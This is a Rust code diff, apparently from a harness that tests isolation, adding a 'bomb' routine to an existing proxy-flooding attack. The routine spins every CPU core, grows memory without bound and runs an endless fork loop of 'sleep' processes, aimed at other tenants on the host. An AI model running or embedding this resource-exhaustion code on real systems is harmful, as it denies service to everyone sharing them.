@@ -1,9 +1,11 @@
-//! An attack on the way out: very many connections to the proxy, and requests that never end.
+//! Attacks: on the way out, by very many connections to the proxy and requests that never end; and on whoever
+//! shares the host, by everything at once.
 
 use std::collections::VecDeque;
 use std::io::{self, Read, Write};
 use std::net::{SocketAddr, TcpStream};
-use std::thread::sleep;
+use std::process::{Child, Command, Stdio};
+use std::thread::{self, sleep};
 use std::time::{Duration, Instant};
 
 use serde::Deserialize;
@@ -19,6 +21,10 @@ const CONNECT: Duration = Duration::from_millis(1);
 const HELD_MAX: usize = 900;
 /// Between two bytes.
 const DRIP: Duration = Duration::from_millis(100);
+/// How often a bomb takes more memory.
+const GROWTHS_A_SECOND: usize = 20;
+/// The same, as a pause.
+const GROWS_EVERY: Duration = Duration::from_millis(1000 / GROWTHS_A_SECOND as u64);
 /// The request, but for its end.
 const HEAD: &[u8] = b"CONNECT localhost:443 HTTP/1.1\r\nX-Slow: ";
 
@@ -72,6 +78,47 @@ pub(super) fn besiege(context: &Context, raw: &RawValue) -> Result<Outcome, Faul
     Ok(Outcome::Json(json!({
         "made": made, "refused": refused, "held": most, "cut": cut,
     })))
+}
+
+#[derive(Debug, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct Bomb {
+    mib_per_second: usize,
+}
+
+/// Never answers: it is ended.
+pub(super) fn bomb(context: &Context, raw: &RawValue) -> Result<Outcome, Fault> {
+    let Bomb { mib_per_second } = arguments(raw)?;
+    let cores = thread::available_parallelism().map_or(2, std::num::NonZero::get);
+    for _ in 0..cores {
+        thread::spawn(|| {
+            loop {
+                std::hint::spin_loop();
+            }
+        });
+    }
+    thread::spawn(fork_on);
+    let mut held: Vec<Vec<u8>> = Vec::new();
+    while !context.cancel.wait(GROWS_EVERY) {
+        // Written, so that it is there.
+        held.push(vec![1; (mib_per_second << 20) / GROWTHS_A_SECOND]);
+    }
+    drop(held);
+    Ok(Outcome::Silent)
+}
+
+/// As many processes as the kernel lets be, and then one try after the other.
+fn fork_on() {
+    let mut children: Vec<Child> = Vec::new();
+    loop {
+        let child = Command::new("sleep")
+            .arg("3600")
+            .stdin(Stdio::null())
+            .stdout(Stdio::null())
+            .stderr(Stdio::null())
+            .spawn();
+        children.extend(child);
+    }
 }
 
 /// One byte more, unless the other end is gone.
